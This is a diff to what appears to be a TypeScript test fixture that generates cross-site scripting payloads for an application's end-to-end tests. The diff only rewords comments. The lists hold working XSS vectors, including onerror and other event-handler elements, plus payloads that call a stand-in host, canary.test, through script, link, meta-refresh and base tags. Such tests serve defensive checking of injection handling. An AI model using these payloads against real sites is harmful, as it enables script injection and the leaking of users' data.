@@ -1,6 +1,6 @@
 import { howMany } from '../../../server/testing/how-many.ts';
 
-/** Scripts by which a payload reports that it runs. `watch` (canary.ts) defines `ran` in every page. */
+/** Scripts with which a payload reports that it runs. `watch` (canary.ts) defines `ran` in every page. */
 const ACTIONS = [
   'ran()',
   'alert(1)',
@@ -13,7 +13,7 @@ const ACTIONS = [
 
 const list = (text: string) => text.trim().split(/\s*¦\s*|\n\s*/);
 
-/** An image with a handler that runs at once. § stands for the action here and in all other payloads. */
+/** Image with a handler that runs at once. § takes the place of the action here and in all other payloads. */
 const IMAGE = '<img src=x onerror=§>';
 
 /** Beginnings of elements with an event handler, which runs by itself or on a touch; the action follows. */
@@ -42,7 +42,7 @@ const HANDLERS = list(`
   p onkeydown ¦ p onselectstart ¦ p onscrollend ¦ p oncontentvisibilityautostatechange ¦ x onclick ¦ template shadowrootmode=open><img src=x onerror
 `);
 
-/** Elements that contain an address; @ stands for the address. */
+/** Elements that contain an address; @ takes the place of the address. */
 const LINKS = list(`
   <a href="@">x</a> ¦ <A HREF='@'>x</A> ¦ <a href=@>x ¦ <area href="@"> ¦ <iframe src="@"> ¦ <object data="@"> ¦ <embed src="@"> ¦ <frame src="@">
   <form action="@"><button autofocus> ¦ <form><button formaction="@">x ¦ <form><input type=submit formaction="@"> ¦ <base href="@//">
@@ -137,7 +137,7 @@ const SHAPES = [
   ...CODE,
 ];
 
-/** Payloads that send a request to another server, by which data could leak. */
+/** Payloads that send a request to another server, which could leak data. */
 const CALLS = list(`
   <img src=//canary.test/i> ¦ <img srcset=//canary.test/i> ¦ <script src=//canary.test></script> ¦ <link rel=stylesheet href=//canary.test/x.css>
   <link rel=prefetch href=//canary.test> ¦ <base href=//canary.test/> ¦ <meta http-equiv=refresh content="0;url=//canary.test"> ¦ <a ping=//canary.test>
@@ -149,7 +149,10 @@ const CALLS = list(`
 const NAME_MAX = 80;
 const COUNT = 500;
 
-/** All shapes of payloads with an action: first each shape with one action, then each with the next one, and so on. */
+/**
+ * All shapes of payloads with an action: first each shape with one action, then each shape with the next action, and so
+ * on.
+ */
 const SHAPED = ACTIONS.flatMap((_, round) =>
   SHAPES.map((shape, at) =>
     shape.replaceAll('§', () => ACTIONS[(at + round) % ACTIONS.length] ?? ''),
@@ -164,10 +167,7 @@ export const ALL_PAYLOADS: readonly string[] = [...new Set([...CALLS, ...SHAPED]
   .filter((payload) => payload.length <= NAME_MAX)
   .slice(0, COUNT);
 
-/**
- * The payloads that the journeys try: all of them in `npm run test:long`, otherwise every fifth, which includes every
- * kind.
- */
+/** Payloads that the journeys try: all in `npm run test:long`, otherwise every fifth, which includes every kind. */
 export const PAYLOADS = ALL_PAYLOADS.filter((_, at) => at % howMany(5, 1) === 0);
 
 /** Number of payloads that differ in more than their action. */
